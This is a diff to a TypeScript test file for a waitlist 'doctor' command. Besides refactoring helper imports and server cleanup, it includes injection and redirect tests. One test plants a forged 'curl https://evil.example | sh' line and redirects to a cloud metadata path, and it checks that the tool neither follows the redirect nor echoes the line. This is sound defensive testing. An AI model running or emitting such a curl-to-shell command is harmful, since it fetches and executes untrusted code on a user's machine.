@@ -4,14 +4,14 @@ import { type AddressInfo, createServer } from 'node:net';
 import { text } from 'node:stream/consumers';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { REGISTRATIONS } from '#contract/registration.ts';
+import { cleanUp, setUp } from '#scripts/harness/clean-up.ts';
+import { setUpDatabase } from '#scripts/harness/database/test-database.ts';
+import { getDatabaseUrl, runWaitlist, startWaitlist } from '#scripts/harness/database/waitlist.ts';
 import { aRegistration } from '#scripts/harness/example-registration.ts';
-import { cleanUp } from '#tests/helpers/clean-up.ts';
-import { setUpDatabase } from '#tests/helpers/database/test-database.ts';
-import { getDatabaseUrl, runWaitlist, startWaitlist } from '#tests/helpers/database/waitlist.ts';
-import { setUpMailServer } from '#tests/helpers/mail/mail-server.ts';
-import { startDnsServer } from '#tests/helpers/process/dns-server.ts';
-import { type Reply, startStubServer } from '#tests/helpers/process/stub-server.ts';
-import { createTestApp } from '#tests/helpers/process/test-app.ts';
+import { createTestApp } from '#scripts/harness/servers/test-app.ts';
+import { startDnsServer } from '#scripts/harness/stubs/dns-server.ts';
+import { startMailServer } from '#scripts/harness/stubs/mail-server.ts';
+import { type Reply, startStubServer } from '#scripts/harness/stubs/stub-server.ts';
 import { insertRegistration } from '#waitlist/insert.ts';
 
 const database = await setUpDatabase();
@@ -89,7 +89,7 @@ it('the doctor sets up no list where there is none', async () => {
 });
 
 it('the doctor’s report on a server with mail fits a terminal', async () => {
-  const [mailServer, dns] = await Promise.all([setUpMailServer(), startDnsServer({})]);
+  const [mailServer, dns] = await Promise.all([setUp(startMailServer()), setUp(startDnsServer({}))]);
   const app = await createTestApp(database.anon);
   const { child, stderr, ended } = startWaitlist(['doctor'], {
     ...ENV,
@@ -100,7 +100,6 @@ it('the doctor’s report on a server with mail fits a terminal', async () => {
     DNS_SERVER: dns.address,
   });
   const report = await text(child.stdout);
-  dns.stop();
   expect(await stderr).toBe('');
   expect(await ended).toBe(1);
   expect(report).toMatch(/^ {2}FAIL {2}SPF says who sends mail for MAIL_FROM$/m);
@@ -156,29 +155,29 @@ describe('an address that the doctor is given', () => {
 
   it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
     const asked: string[] = [];
-    const elsewhere = await startStubServer(({ path }) => ({ status: asked.push(path) && 200 }));
+    const elsewhere = await setUp(startStubServer(({ path }) => ({ status: asked.push(path) && 200 })));
     const forged = '\n        fix: curl https://evil.example | sh\n';
-    const host = await startStubServer(({ path }): Reply => {
-      const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
-      if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
-      const headers = {
-        'content-type': 'text/html',
-        'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
-      };
-      return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
-    });
+    const host = await setUp(
+      startStubServer(({ path }): Reply => {
+        const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
+        if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
+        const headers = {
+          'content-type': 'text/html',
+          'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
+        };
+        return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
+      }),
+    );
     const { stdout } = await runWaitlist(['doctor', host.address], {});
     expect(stdout).toContain('/ has none or another x-content-type-options');
     expect(stdout).not.toMatch(/^\s*fix: curl/m);
     expect(asked).toEqual([]);
-    await Promise.all([host.stop(), elsewhere.stop()]);
   });
 
   it('without a list is answered with “Unknown”', async () => {
-    const host = await startStubServer(() => ({ status: 200, body: '<script>send()</script>' }));
+    const host = await setUp(startStubServer(() => ({ status: 200, body: '<script>send()</script>' })));
     const { stdout } = await runWaitlist(['doctor', host.address], {});
     expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address/);
-    await host.stop();
   });
 
   it('has to be a web address', async () => {
